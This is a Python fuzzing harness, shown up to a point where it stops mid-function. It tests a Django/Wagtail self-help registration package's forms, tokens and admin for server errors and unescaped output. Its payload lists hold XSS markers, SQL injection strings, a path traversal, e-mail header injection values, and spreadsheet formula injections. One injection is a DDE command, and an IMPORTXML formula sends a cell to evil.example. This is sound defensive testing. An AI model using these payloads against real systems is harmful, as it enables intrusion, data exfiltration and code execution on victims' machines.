"""Fuzz campaign against the public form and pages, self-service and the admin.

Builds the example site's demo content (``example_site/home/demo.py``) in a
throwaway database, plus a second registration page in another section with
a few registrations, a group and a matching run of its own, which the demo
coordinator does not coordinate. Then it runs ``--posts`` fuzz cases
(default 10,000; with the public form's GETs about 14,300 requests), in an
order and with payloads drawn from a seeded generator of its own (``--seed``
repeats a run exactly), through Django's test client in-process
(``benchmarks/load_site/fuzz_settings.py``: the example site's settings with
DEBUG off, rate limits out of reach, no minimum fill time):

* the public registration form (40 %): each post has its own form token
  (from a GET of the form, as a browser gets it) and starts from valid
  answers with real place, time-slot and topic ids; one in eight is sent
  as it is, or with only valid-but-awkward free texts (markup, formula
  prefixes, any script, 1,000-character messages), and must be stored; the
  rest get one to four mutations: unicode edge cases (zero-width, bidi
  overrides, combining marks, emoji, noncharacters), NUL bytes and control
  characters, values of 1 MB, repeated and missing keys, wrong types (lists
  for scalars, words for numbers, superscript and Arabic-Indic digits),
  formula prefixes, huge integers, unknown ids and keys, tampered, expired,
  foreign and reused form tokens, the honeypot, invalid percent-encoding
  and UTF-8, multipart and JSON bodies, too many fields, too big a body,
  and a CSRF failure (posted with CSRF checks on and no token, which the
  site's CSRF failure view answers by re-rendering the form);
* the self-service page (15 %): valid, mutated, truncated, foreign, deleted
  and random tokens, GET and POST (stay, withdraw, confirm, nonsense);
* the public content pages (5 %: the section's index, the info pages, the
  contact directory, the thank-you pages) with fuzzed query strings (page
  numbers up to 5,000 digits, filters, junk keys);
* every POST form of the package's admin (40 %), as the demo coordinator
  (``force_login``, the demo's coordinator group): registration edit
  (status, coordinator notes), bulk status (with fuzzed listing filters),
  avoid pairs, group create and edit, group members (add, remove, start,
  end), the matching workflow (propose; a run's leave out, drop, keep,
  exclude, include, re-run and create), erase, re-confirmation, delete of a
  registration and of a group; and GETs of the listings, reports and forms
  with fuzzed query strings: every listing's own filter keys (read from its
  filter set, a date range's two keys included) with hostile values (ids of
  20 digits, years 0, -1 and 10000, dates at the calendar's ends, numbers
  in odd forms), where an export of registrations whose filters are
  invalid must be refused. The URLs come from the package's URL
  namespaces, as ``tests/admin/test_permission_matrix.py`` reads them; a
  URL of the package with no fuzzer is reported.

Checks, on every request: never a 5xx (each is collected with its
traceback through ``got_request_exception``); no HTML response contains a
marker (``<script>fuzz``, ``<img src=x onerror=fuzz``, an attribute break
with a ``fuzz`` handler...) unescaped, whichever request stored it. Per
target: the public form stores at most one registration, only with a 303,
and nothing when the input is certainly invalid (a missing or wrong
answer, consent other than ``yes``, a NUL byte, an unknown id, a bad
token, the honeypot...), and stores a valid one with its name as sent;
the self-service page answers 200 (or 400 to a bad POST) only for a valid,
live token of its own page; an admin form that does not redirect changes
nothing, and one posted with certainly invalid input changes nothing
either; nothing of the other page ever changes. At the end it posts a few
probe names (control characters, formulas, a bidi override, markup,
noncharacters) as otherwise valid registrations, reads the admin's pages
with the stored fuzz data (listings, inspect, edit, history, members, runs)
for unescaped markers, and reads the CSV export and the XLSX export (of
everything, and of each probe alone) for formulas and for a file that
openpyxl cannot open. It prints the requests by target and status, what
was accepted and changed, PASS/FAIL per check, each kind of 5xx with a
condensed traceback and examples of every other failure; the exit status
is 1 when anything failed.

PostgreSQL by default (``--database-url``, else ``DATABASE_URL``, else the
server on 127.0.0.1:54330); the fuzzer creates the database named in the
URL (default ``selvhjelp_bench_fuzz``) and drops it at the end, so give it
a name of its own: an existing database of that name is dropped first.
Without a reachable PostgreSQL it warns and uses a SQLite file, which
accepts NUL bytes that PostgreSQL refuses and overflows on 20-digit ids
that PostgreSQL compares.

    python benchmarks/fuzz.py                    # 10,000 cases: ~9 min
    python benchmarks/fuzz.py --posts 2000 --seed 7
    python benchmarks/fuzz.py --database-url postgres://postgres@127.0.0.1:54330/fuzz_x
"""

import argparse
import csv
import io
import os
import random
import re
import shutil
import sys
import tempfile
import time
import traceback
import unicodedata
from collections import Counter, defaultdict
from pathlib import Path
from unittest import mock
from urllib.parse import parse_qsl, quote, urlencode


ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
SETTINGS_MODULE = "benchmarks.load_site.fuzz_settings"
DEFAULT_DATABASE_URL = "postgres://postgres@127.0.0.1:54330/selvhjelp_bench_fuzz"

#: Share of the requests per target group.
SHARES = {
    "public form": 0.4,
    "self-service": 0.15,
    "public pages": 0.05,
    "admin": 0.4,
}

#: Admin forms and their weights within the admin's share.
ADMIN_WEIGHTS = {
    "registration edit": 14,
    "bulk status": 3,
    "avoid pair": 9,
    "group create": 9,
    "group edit": 9,
    "group members": 14,
    "matching propose": 2,
    "matching run": 14,
    "erase": 4,
    "confirm": 5,
    "registration delete": 1,
    "group delete": 1,
    "admin GET": 12,
}

# Markers: harmless if escaped, script if not. Each carries "fuzz", and
# DANGEROUS lists what must never appear verbatim in HTML.
MARKERS = [
    "<script>fuzz(1)</script>",
    '"><img src=x onerror=fuzz(2)>',
    "'><svg onload=fuzz(3)>",
    '" onmouseover="fuzz(4)',
    "' onfocus='fuzz(5)",
    "</textarea><b>fuzz(6)</b>",
    "</title><script>fuzz(7)</script>",
    "<!--fuzz(8)-->",
    "javascript:fuzz(9)",
]
DANGEROUS = [
    "<script>fuzz(",
    "<img src=x onerror=fuzz(",
    "<svg onload=fuzz(",
    'onmouseover="fuzz(',
    "onfocus='fuzz(",
    "<b>fuzz(",
    "<!--fuzz(",
    'href="javascript:fuzz(',
]

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","klikk her")',
    "+47 999 00 000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]

NASTY = [
    "",
    " ",
    "\t\n\r",
    "\u00a0",
    "\u200b",
    "\u200b\u200b\u200b",
    "\u200d",
    "\u202eevil\u202c",
    "\u2066isolate\u2069",
    "\ufeff",
    "\ufffe\uffff",
    "\ufffd",
    "\x00",
    "a\x00b",
    "Kari\x00Nordmann",
    "\x00" * 20,
    "\x01\x02\x03\x1b[31m",
    "\x1c\x1d\x1e\x1f",
    "\x7f\x80\x9f",
    "e\u0301",
    "Z\u0334\u0321\u032a\u0351a\u0337\u031b\u034el\u0338g\u0335o",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f600" * 60,
    "\ufb00\u0130\u00df\u01c4",
    "\U0001d518\U0001d52b\U0001d526",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u65e5\u672c\u8a9e",
    "\u00c5se \u00d8deg\u00e5rd \u00c6rlig",
    "\U000e0041\U000e0042",
    "\U0010ffff",
    "null",
    "None",
    "undefined",
    "true",
    "false",
    "on",
    "0",
    "-0",
    "-1",
    "1.0",
    "1e3",
    "NaN",
    "Infinity",
    "1e309",
    "9" * 30,
    "-" + "9" * 30,
    "9" * 5000,
    "2" * 19,
    "\u0661\u0669\u0668\u0664",
    "\uff11\uff19\uff18\uff14",
    "\u00b2",
    "\u00b9\u00b2",
    "\u00bd",
    "\u2168",
    "0x7C0",
    "1984.0",
    " 1984 ",
    "+1984",
    "1_984",
    "1984\x00",
    "'; DROP TABLE wagtail_selvhjelp_registration; --",
    "' OR '1'='1",
    "%s%s%s",
    "%(name)s",
    "{0}{1}",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "${7*7}",
    "../../../../etc/passwd",
    "%00",
    "%ff%fe",
    "a@b",
    "a@b.c",
    "a@[127.0.0.1]",
    '"quoted local"@example.no',
    "\u00fcnicode@ex\u00e4mple.no",
    "x@example.no\nBcc: y@example.no",
    "x@example.no\r\nSubject: hei",
    "a" * 65 + "@example.no",
    "a@" + "b" * 250 + ".no",
    "+47 999 00 000",
    "99900000",
    "+" + "9" * 39,
    "\u260e",
    "0047 999 00 000",
    "2024-02-30",
    "9999-12-31",
    "0000-00-00",
    "99999-01-01",
    "25:61",
    "12:00:00.99999999999",
    *FORMULAS,
    *MARKERS,
]

#: Answers that are awkward but valid: they must be stored as sent.
VALID_NAMES = [
    "Åse Ødegård-Ærlig",
    "Zoë Ñúñez",
    "\u0645\u0631\u064a\u0645 \u0639\u0644\u064a",
    "\u05e9\u05e8\u05d4 \u05db\u05d4\u05df",
    "\u674e\u5c0f\u9f99",
    "Kari \U0001f600 Demo",
    "O'Brien-Smith",
    "e\u0301milie",
    *[m for m in MARKERS if m.strip()],
    *[f.strip() or "x" for f in FORMULAS if f.strip()],
]


def random_text(rng, length):
    """``length`` code points from awkward ranges, never a lone surrogate."""
    ranges = [
        (0x20, 0x7E),
        (0x00, 0x1F),
        (0x7F, 0xFF),
        (0x300, 0x36F),
        (0x590, 0x6FF),
        (0x2000, 0x206F),
        (0x4E00, 0x4E80),
        (0xE000, 0xE010),
        (0xFDD0, 0xFDEF),
        (0xFFF0, 0xFFFF),
        (0x1F300, 0x1F64F),
        (0x10FFF0, 0x10FFFF),
    ]
    out = []
    for _ in range(length):
        low, high = rng.choice(ranges)
        out.append(chr(rng.randint(low, high)))
    return "".join(out)


def nasty(rng):
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(NASTY)
    if roll < 0.7:
        return random_text(rng, rng.choice([1, 3, 10, 50, 300]))
    if roll < 0.8:
        return rng.choice(NASTY) + rng.choice(NASTY)
    if roll < 0.9:
        return rng.choice(MARKERS) + rng.choice(["", " Demo", rng.choice(NASTY)])
    if roll < 0.985:
        return rng.choice(["A", "\u00d8", "\U0001f600", "e\u0301", "<b>"]) * (
            rng.choice([201, 255, 501, 1001, 5000, 70000])
        )
    # A value of 1 MB.
    return rng.choice(["A" * 1_000_000, "\u00d8" * 500_000])


def pairs_get(pairs, key):
    """What ``QueryDict.get`` returns: the last value, or None."""
    values = [value for name, value in pairs if name == key]
    return values[-1] if values else None


def pairs_getlist(pairs, key):
    return [value for name, value in pairs if name == key]


def python_int(value):
    """``int(value)`` as Python parses it, or None."""
    try:
        return int(value)
    except (TypeError, ValueError):
        return None


# The campaign


class Campaign:
    def __init__(self, rng, state):
        from django.core.signals import got_request_exception

        self.rng = rng
        self.state = state
        self.counts = defaultdict(Counter)
        self.seconds = Counter()
        self.failures = defaultdict(list)
        self.server_errors = []
        self.exception = None
        self.requests = 0
        self.notes = Counter()
        got_request_exception.connect(self.on_exception, weak=False)

    def on_exception(self, sender, request=None, **kwargs):
        self.exception = traceback.format_exc()

    def fail(self, kind, target, detail):
        self.failures[kind].append((target, detail))

    def send(self, target, client, method, path, body=None, content_type=None):
        """One request; counts it and checks for a 5xx and unescaped markers."""
        self.exception = None
        start = time.perf_counter()
        if method == "GET":
            response = client.get(path)
        else:
            response = client.generic(
                method,
                path,
                body if body is not None else "",
                content_type or "application/x-www-form-urlencoded",
            )
        self.seconds[target] += time.perf_counter() - start
        self.requests += 1
        status = response.status_code
        self.counts[target][f"{method} {status}"] += 1
        if status >= 500:
            self.server_errors.append(
                {
                    "target": target,
                    "request": f"{method} {short(path)}",
                    "body": describe_body(body, content_type),
                    "status": status,
                    "traceback": self.exception or "(no exception signalled)",
                }
            )
        self.check_echo(target, method, path, body, response)
        return response

    def check_echo(self, target, method, path, body, response):
        if response.streaming or "html" not in response.get("Content-Type", ""):
            return
        content = response.content.decode("utf-8", "replace")
        if "fuzz(" not in content:
            return
        for fragment in DANGEROUS:
            where = content.find(fragment)
            if where >= 0:
                self.fail(
                    "unescaped echo",
                    target,
                    f"{method} {short(path)} -> {response.status_code}: "
                    f"{content[max(0, where - 200) : where + 120]!r}; "
                    f"body {describe_body(body, None)}",
                )
                return


def short_traceback(text):
    """The traceback's frames in this repository, its last frame and the error."""
    lines = text.strip().splitlines()
    frames = []
    for index, line in enumerate(lines):
        if line.lstrip().startswith('File "'):
            frames.append(index)
    keep = []
    for number, index in enumerate(frames):
        end = frames[number + 1] if number + 1 < len(frames) else len(lines) - 1
        own = str(ROOT) in lines[index] and "/.venv/" not in lines[index]
        if own or number == len(frames) - 1:
            block = [
                line for line in lines[index:end] if not set(line.strip()) <= {"^", "~"}
            ]
            keep.extend(block)
        elif keep and keep[-1] != "  ...":
            keep.append("  ...")
    return "\n".join([lines[0], *keep, lines[-1]])


def short(path):
    """A path or URL, cut in the middle when it is long."""
    if len(path) <= 300:
        return path
    return f"{path[:200]}...({len(path)} characters)...{path[-60:]}"


def describe_body(body, content_type):
    if body is None:
        return "(none)"
    text = body if isinstance(body, str) else repr(body)
    if len(text) > 600:
        text = f"{text[:400]} ... ({len(text)} characters) ... {text[-120:]}"
    suffix = f" [{content_type}]" if content_type else ""
    return repr(text) + suffix


def encode(rng, pairs, *, raw_extra="", form_only=False):
    """A POST body for ``pairs``: urlencoded mostly, multipart or JSON at times.

    ``form_only``: urlencoded or multipart, never a body Django does not read
    as a form.
    """
    from django.test.client import MULTIPART_CONTENT, encode_multipart

    roll = rng.random()
    if form_only and roll >= 0.06:
        roll = 1
    if roll < 0.06:
        data = {}
        for key, value in pairs:
            data.setdefault(key, []).append(value)
        boundary = "FuzzBoundary" + str(rng.randint(0, 10**9))
        return (
            encode_multipart(boundary, data),
            MULTIPART_CONTENT.replace("BoUnDaRyStRiNg", boundary),
        )
    if roll < 0.08:
        import json

        return json.dumps(dict(pairs)), "application/json"
    if roll < 0.09:
        return urlencode(pairs), "text/plain"
    body = urlencode(pairs)
    return body + raw_extra, "application/x-www-form-urlencoded"


def mutate_pairs(rng, pairs, keys, *, extra_keys=()):
    """One generic mutation of a list of (key, value) pairs, in place."""
    kind = rng.choice(["set", "set", "set", "drop", "repeat", "unknown", "empty"])
    key = rng.choice(list(keys))
    if kind == "set":
        pairs[:] = [(k, v) for k, v in pairs if k != key] + [(key, nasty(rng))]
    elif kind == "drop":
        pairs[:] = [(k, v) for k, v in pairs if k != key]
    elif kind == "repeat":
        pairs.append((key, nasty(rng)))
        if rng.random() < 0.5:
            rng.shuffle(pairs)
    elif kind == "unknown":
        unknown = rng.choice(
            [
                *extra_keys,
                "id",
                "pk",
                "page",
                "status",
                "created_at",
                "submission_token",
                "possible_duplicate",
                key + "[]",
                nasty(rng)[:100] or "x",
            ]
        )
        pairs.append((unknown, nasty(rng)))
    else:
        pairs[:] = [(k, "" if k == key else v) for k, v in pairs]
    return kind, key


RAW_EXTRAS = [
    "&%zz=1",
    "&name=%ff%fe",
    "&=",
    "&&&",
    "&name",
    "&%00=%00",
    "&places=%c0%af",
    "&birth_year=%e2%80%ae1984",
    "&" + "x=1&" * 50,
]


# Data


def build(rng):
    from django.contrib.auth import get_user_model
    from wagtail.models import Page, Site

    from example_site.home import demo
    from wagtail_selvhjelp.models import (
        GroupRegistrationPage,
        MatchingRun,
        Registration,
        SelfHelpGroup,
        SelfHelpIndexPage,
    )
    from wagtail_selvhjelp.proposals import run_engine

    home = Site.objects.get(is_default_site=True).root_page.specific
    demo.load_demo(home)
    home = type(home).objects.get(pk=home.pk)
    page_a = GroupRegistrationPage.objects.get(slug="meld-deg-pa")
    # Page B: another section's form, which the demo coordinator does not
    # coordinate. Nothing of it may ever change.
    section_b = demo._publish_child(
        home,
        SelfHelpIndexPage(
            title="Selvhjelp i Dalsetra",
            slug="selvhjelp-dalsetra",
            intro="<p>En annen kommune (oppdiktet).</p>",
        ),
    )
    page_b = demo._registration_page(section_b)
    for number in range(8):
        Registration.objects.store(
            page=page_b,
            answers={
                "name": f"Dalsetra Demo {number}",
                "email": f"dalsetra{number}@demo.example",
                "birth_year": 1960 + number,
                "group_kind": "any",
                "places": list(page_b.places.all()[:1]),
                "time_slots": list(page_b.time_slots.all()[:1]),
            },
            consent_text=page_b.consent_text,
        )
    registrations_b = list(page_b.registrations.order_by("pk"))
    group_b = SelfHelpGroup.objects.create(
        page=page_b,
        name="Dalsetra, dagtid",
        place=page_b.places.first(),
        time_slot=page_b.time_slots.first(),
    )
    group_b.add_member(registrations_b[0])
    run_b = run_engine(MatchingRun.objects.create(page=page_b))
    user = get_user_model().objects.create_user(
        "koordinator", email="koordinator@example.test", is_staff=True
    )
    user.groups.add(demo.coordinator_group())
    run_a = run_engine(MatchingRun.objects.create(page=page_a, created_by=user))
    return {
        "page_a": page_a,
        "page_b": page_b,
        "user": user,
        "group_b": group_b,
        "run_a": run_a,
        "run_b": run_b,
        "form_path": page_a.url,
        "place_ids": [str(p.pk) for p in page_a.places.active()],
        "slot_ids": [str(s.pk) for s in page_a.time_slots.active()],
        "topic_ids": [str(t.pk) for t in page_a.topics.active()],
        "place_ids_b": [str(p.pk) for p in page_b.places.all()],
        "place_ids_all": [str(p.pk) for p in page_a.places.all()],
        "public_paths": [
            page.url
            for page in Page.objects.live().filter(depth__gte=2).specific()
            if page.url and page.pk != page_a.pk
        ]
        + [page_a.url + "takk/", page_b.url + "takk/"],
        "slot_ids_all": [str(s.pk) for s in page_a.time_slots.all()],
        "stored_names": {},
        "used_tokens": [],
        "live_tokens": {},
        "dead_tokens": [],
        "probe_emails": {},
    }


def snapshot_b(state):
    """Everything of page B, to compare before and after the campaign."""
    from wagtail_selvhjelp.models import (
        AvoidPair,
        GroupMembership,
        MatchingRun,
        Registration,
        SelfHelpGroup,
    )

    page = state["page_b"]
    registrations = list(
        Registration.objects.filter(page=page)
        .order_by("pk")
        .values_list("pk", "status", "coordinator_notes", "confirmed_at", "updated_at")
    )
    ids = [row[0] for row in registrations]
    return (
        registrations,
        list(
            SelfHelpGroup.objects.filter(page=page)
            .order_by("pk")
            .values_list("pk", "name", "status", "place_id", "venue", "ended_on")
        ),
        list(
            GroupMembership.objects.filter(registration_id__in=ids)
            .order_by("pk")
            .values_list("pk", "is_current", "left_on")
        ),
        sorted(
            AvoidPair.objects.filter(first_id__in=ids).values_list("first", "second")
        )
        + sorted(
            AvoidPair.objects.filter(second_id__in=ids).values_list("first", "second")
        ),
        list(
            MatchingRun.objects.filter(page=page)
            .order_by("pk")
            .values_list("pk", "proposal", "excluded")
        ),
    )


# The public form


def valid_answers(rng, state, number):
    kind = rng.choice(["any", "any", "themed", "mixed"])
    topics = rng.sample(state["topic_ids"], k=rng.choice([0, 1, 2]))
    if kind == "themed" and not topics:
        topics = [rng.choice(state["topic_ids"])]
    pairs = [
        ("name", f"Fuzz Demo {number}"),
        ("email", f"fuzz{number}@fuzz.example"),
        ("phone", ""),
        ("birth_year", str(rng.randint(1940, 2000))),
        ("group_kind", kind),
        ("gender", rng.choice(["", "woman", "man", "other"])),
        ("avoid_text", ""),
        ("access_needs", ""),
        ("message", ""),
        ("consent", "yes"),
        ("website", ""),
    ]
    pairs += [("places", p) for p in rng.sample(state["place_ids"], k=1)]
    pairs += [("time_slots", s) for s in rng.sample(state["slot_ids"], k=1)]
    pairs += [("topics", t) for t in topics]
    return pairs


def form_keys():
    """The public form's answers (the field catalogue's) and its consent."""
    from wagtail_selvhjelp.models import Registration

    return [*Registration.answer_fields, "consent"]


def certainly_invalid(pairs, state, this_year):
    """Why these answers must not be stored (a list; empty: they may be)."""
    from wagtail_selvhjelp.choices import (
        ACCESS_NEEDS_MAX_LENGTH,
        AVOID_MAX_LENGTH,
        EMAIL_MAX_LENGTH,
        MESSAGE_MAX_LENGTH,
        NAME_MAX_LENGTH,
    )

    reasons = []
    for key, limit in (
        ("name", NAME_MAX_LENGTH),
        ("email", EMAIL_MAX_LENGTH),
        ("phone", 40),
        ("avoid_text", AVOID_MAX_LENGTH),
        ("access_needs", ACCESS_NEEDS_MAX_LENGTH),
        ("message", MESSAGE_MAX_LENGTH),
    ):
        value = pairs_get(pairs, key)
        if value is not None and "\x00" in value:
            reasons.append(f"NUL in {key}")
        if value is not None and any(
            unicodedata.category(char) == "Cc" and char not in "\t\n\r"
            for char in value.strip()
        ):
            reasons.append(f"control character in {key}")
        if value is not None and len(value.strip()) > limit:
            reasons.append(f"{key} longer than {limit}")
    name = pairs_get(pairs, "name")
    if name is None or not name.strip():
        reasons.append("no name")
    email = (pairs_get(pairs, "email") or "").strip()
    phone = (pairs_get(pairs, "phone") or "").strip()
    if not email and not phone:
        reasons.append("neither e-mail nor phone")
    if email and ("@" not in email or re.search(r"\s", email)):
        reasons.append("e-mail without @ or with a space")
    year = pairs_get(pairs, "birth_year")
    if year is None or "\x00" in year:
        reasons.append("no birth year")
    else:
        parsed = python_int(re.sub(r"\.0*\s*$", "", year))
        if parsed is None:
            reasons.append("birth year not a number")
        elif not this_year - 120 <= parsed <= this_year - 18:
            reasons.append("birth year out of range or under age")
    kind = pairs_get(pairs, "group_kind")
    if kind not in ("themed", "mixed", "any"):
        reasons.append("no such group kind")
    gender = pairs_get(pairs, "gender")
    if gender is not None and gender not in ("", "woman", "man", "other"):
        reasons.append("no such gender")
    if pairs_get(pairs, "consent") != "yes":
        reasons.append("consent is not 'yes'")
    for key, ids, required in (
        ("places", state["place_ids"], True),
        ("time_slots", state["slot_ids"], True),
        ("topics", state["topic_ids"], False),
    ):
        values = pairs_getlist(pairs, key)
        if required and not values:
            reasons.append(f"no {key}")
        if any(value not in ids for value in values):
            reasons.append(f"unknown {key} id")
    if kind == "themed" and not pairs_getlist(pairs, "topics"):
        reasons.append("themed without a topic")
    if pairs_get(pairs, "website"):
        reasons.append("honeypot filled")
    return reasons


def form_token(rng, state, client, campaign):
    """A fresh form token, from a GET of the form as a browser gets it."""
    response = campaign.send("public form", client, "GET", state["form_path"])
    match = re.search(rb'name="form_token" value="([^"]+)"', response.content)
    if match is None:
        campaign.fail(
            "form GET without a token", "public form", str(response.status_code)
        )
        from wagtail_selvhjelp import guards

        return guards.make_form_token(state["page_a"].pk)
    return match.group(1).decode()


#: Token mutations that do not make a post certainly invalid.
UNCERTAIN_TOKENS = {"reused token"}


def token_mutation(rng, state, token):
    """(token value or None to drop it, why it is invalid or None)."""
    from wagtail_selvhjelp import guards

    if token is None:  # dropped by an earlier mutation
        token = guards.make_form_token(state["page_a"].pk)
    roll = rng.random()
    if roll < 0.2:
        return None, "no form token"
    if roll < 0.3:
        return nasty(rng), "garbage form token"
    if roll < 0.4:
        position = rng.randrange(len(token))
        flipped = "A" if token[position] != "A" else "B"
        return token[:position] + flipped + token[position + 1 :], "tampered token"
    if roll < 0.5:
        return token[: rng.randrange(len(token))], "truncated token"
    if roll < 0.6:
        return guards.make_form_token(state["page_b"].pk), "another page's token"
    if roll < 0.7:
        with mock.patch("time.time", return_value=time.time() - 25 * 3600):
            old = guards.make_form_token(state["page_a"].pk)
        return old, "expired token"
    if roll < 0.85 and state["used_tokens"]:
        return rng.choice(state["used_tokens"]), "reused token"
    suffix = rng.choice(["", " ", "\x00", "%00"])
    return token + suffix, ("token with a suffix" if suffix else None)


def public_case(rng, state, campaign, clients, number, this_year):
    from wagtail_selvhjelp.models import Registration

    target = "public form"
    client = clients["public"]
    token = form_token(rng, state, client, campaign)
    pairs = valid_answers(rng, state, number)
    token_problem = None
    raw_extra = ""
    kind = rng.random()
    valid_case = kind < 0.125
    mutations = []
    if valid_case:
        # Valid but awkward: markup, formulas, scripts, long free texts.
        if rng.random() < 0.8:
            name = rng.choice(VALID_NAMES)
            pairs = [(k, name if k == "name" else v) for k, v in pairs]
        for key, limit in (("message", 1000), ("access_needs", 500)):
            if rng.random() < 0.4:
                text = (rng.choice(MARKERS + FORMULAS) + " ") * 200
                pairs = [(k, text[:limit] if k == key else v) for k, v in pairs]
        if rng.random() < 0.3:
            pairs = [
                (k, rng.choice(MARKERS) if k == "avoid_text" else v) for k, v in pairs
            ]
    else:
        for _ in range(rng.choice([1, 1, 2, 3, 4])):
            roll = rng.random()
            if roll < 0.55:
                kind, key = mutate_pairs(rng, pairs, form_keys())
                mutations.append(f"{kind} {key}")
            elif roll < 0.65:
                key = rng.choice(["places", "time_slots", "topics"])
                value = rng.choice(
                    [
                        "",
                        "0",
                        "-1",
                        "9" * 30,
                        "1e9",
                        "1.0",
                        "\u00b2",
                        "\u0661",
                        "abc",
                        rng.choice(state["place_ids_b"]),
                        str(rng.randint(1, 40)),
                    ]
                )
                pairs.append((key, value))
                mutations.append(f"{key} id {value!r}")
            elif roll < 0.72:
                pairs = [(k, v) for k, v in pairs if k != "consent"]
                value = rng.choice(["on", "true", "1", "YES", "yes ", "ja", "\x00"])
                pairs.append(("consent", value))
                mutations.append(f"consent {value!r}")
            elif roll < 0.77:
                pairs = [(k, v) for k, v in pairs if k != "website"]
                pairs.append(("website", rng.choice(["http://spam.example", "x"])))
                mutations.append("honeypot")
            elif roll < 0.92:
                token, token_problem = token_mutation(rng, state, token)
                mutations.append(f"token: {token_problem or 'unchanged'}")
            else:
                raw_extra = rng.choice(RAW_EXTRAS)
                mutations.append(f"raw {raw_extra[:20]!r}")
    form_pairs = list(pairs)
    garbage_last = False
    if token is not None:
        form_pairs.insert(0, ("form_token", token))
        garbage_last = rng.random() < 0.05 and not valid_case
        if garbage_last:  # QueryDict.get reads the last one
            form_pairs.append(("form_token", nasty(rng)))
    body, content_type = encode(
        rng, form_pairs, raw_extra=raw_extra, form_only=valid_case
    )
    urlencoded = content_type == "application/x-www-form-urlencoded"
    # What Django will read: the pairs, then whatever a raw extra adds.
    effective = list(pairs)
    if urlencoded:
        effective += parse_qsl(raw_extra, keep_blank_values=True, errors="replace")
    reasons = certainly_invalid(effective, state, this_year)
    # A reused token stores nothing new while its registration exists, and
    # again once that one is deleted: not certainly invalid.
    if token_problem and token_problem not in UNCERTAIN_TOKENS:
        reasons.append(token_problem)
    if token is None:
        reasons.append("no form token")
    elif garbage_last:
        reasons.append("a second, garbage form token last")
    csrf_client = False
    roll = rng.random()
    if roll < 0.02 and not valid_case and urlencoded:
        # Far too many fields, or far too big a body: Django refuses (400).
        body = body + "&" + "f=1&" * 10_001
        reasons.append("too many fields")
    elif roll < 0.03 and not valid_case and urlencoded:
        body = body + "&message=" + "A" * 3_000_000
        reasons.append("body over DATA_UPLOAD_MAX_MEMORY_SIZE")
    elif roll < 0.08 and not valid_case:
        csrf_client = True
        reasons.append("CSRF check failed")
    if content_type in ("application/json", "text/plain"):
        reasons.append(f"{content_type} body")
    before = Registration.objects.count()
    response = campaign.send(
        target,
        clients["csrf"] if csrf_client else client,
        "POST",
        state["form_path"],
        body,
        content_type,
    )
    after = Registration.objects.count()
    status = response.status_code
    request = f"POST {state['form_path']} {describe_body(body, content_type)}"
    if after - before > 1:
        campaign.fail("stored more than one", target, request)
    if after > before and status != 303:
        campaign.fail("stored without a 303", target, f"{status}; {request}")
    if after > before and reasons:
        campaign.fail(
            "stored from invalid input",
            target,
            f"{reasons}; mutations {mutations}; {status}; {request}",
        )
    if after > before:
        campaign.notes["public: stored"] += 1
        newest = Registration.objects.order_by("-pk").first()
        state["used_tokens"].append(pairs_get(form_pairs, "form_token"))
        sent = " ".join((pairs_get(effective, "name") or "").split())
        if newest.name != sent:
            campaign.fail(
                "stored name differs",
                target,
                f"sent {sent!r}, stored {newest.name!r}; {request}",
            )
        if any(m in newest.name for m in MARKERS) or newest.name.startswith("="):
            state["stored_names"][newest.pk] = newest.name
    elif status == 303:
        campaign.notes["public: 303 without a new row (form sent again)"] += 1
    else:
        campaign.notes["public: refused"] += 1
    if valid_case and status != 303:
        campaign.fail("valid registration refused", target, f"{status}; {request}")


# The self-service page


def self_service_case(rng, state, campaign, clients):
    from wagtail_selvhjelp.models import Registration
    from wagtail_selvhjelp.models.self_service import make_self_service_token

    target = "self-service"
    client = clients["public"]
    page_a = state["page_a"]
    live = state["live_tokens"]
    if len(live) < 20:
        for registration in Registration.objects.filter(page=page_a).order_by("?")[:40]:
            live[make_self_service_token(registration)] = registration.pk
    token = original = rng.choice(list(live))
    roll = rng.random()
    if roll < 0.35:
        pass
    elif roll < 0.55:
        position = rng.randrange(len(token))
        replacement = rng.choice(["A", "a", "0", "-", "_", "/", ":", ""])
        token = token[:position] + replacement + token[position + 1 :]
    elif roll < 0.6:
        token = token[: rng.randrange(len(token))]
    elif roll < 0.65:
        token = token + rng.choice(["x", "/x", "//", "/" + token])
    elif roll < 0.7:
        registration = Registration.objects.filter(page=state["page_b"]).first()
        token = make_self_service_token(registration)
    elif roll < 0.78 and state["dead_tokens"]:
        token = rng.choice(state["dead_tokens"])
    elif roll < 0.9:
        token = nasty(rng)[:3000]
    else:
        token = "/".join(
            rng.choice(["WzEsMTcx", "x", "..", "%2e%2e", "0", "-", "_"])
            for _ in range(rng.randint(1, 6))
        )
    path = page_a.url + "min-pamelding/" + quote(token, safe="/") + "/"
    # Valid: exactly a token issued for a registration that still exists.
    # (Wagtail serves no empty path segment, so "token//" is not one.)
    valid = False
    if token in live:
        valid = Registration.objects.filter(pk=live[token], page=page_a).exists()
        if not valid:  # erased or deleted in the admin meanwhile
            del live[token]
            state["dead_tokens"].append(token)
    method = "GET" if rng.random() < 0.35 else "POST"
    body = None
    content_type = None
    pairs = []
    if method == "POST":
        pairs = [
            ("action", rng.choice(["stay", "stay", "withdraw", "", nasty(rng)])),
            ("confirm", rng.choice(["yes", "yes", "", "YES", "on", nasty(rng)])),
        ]
        for _ in range(rng.choice([0, 0, 1, 2])):
            mutate_pairs(rng, pairs, ["action", "confirm"])
        body, content_type = encode(rng, pairs)
    count_before = Registration.objects.count()
    response = campaign.send(target, client, method, path, body, content_type)
    status = response.status_code
    if not valid and status in (200, 400):
        campaign.fail(
            "answered an invalid token",
            target,
            f"{status} for {method} {path!r} {describe_body(body, content_type)}",
        )
    if valid and status not in (200, 400):
        campaign.fail(
            "refused a valid token",
            target,
            f"{status} for {method} {path} (issued as {original!r})",
        )
    count_after = Registration.objects.count()
    if count_after != count_before:
        withdrew = (
            valid
            and method == "POST"
            and content_type.startswith(
                ("application/x-www-form-urlencoded", "multipart/form-data")
            )
            and pairs_get(pairs, "action") == "withdraw"
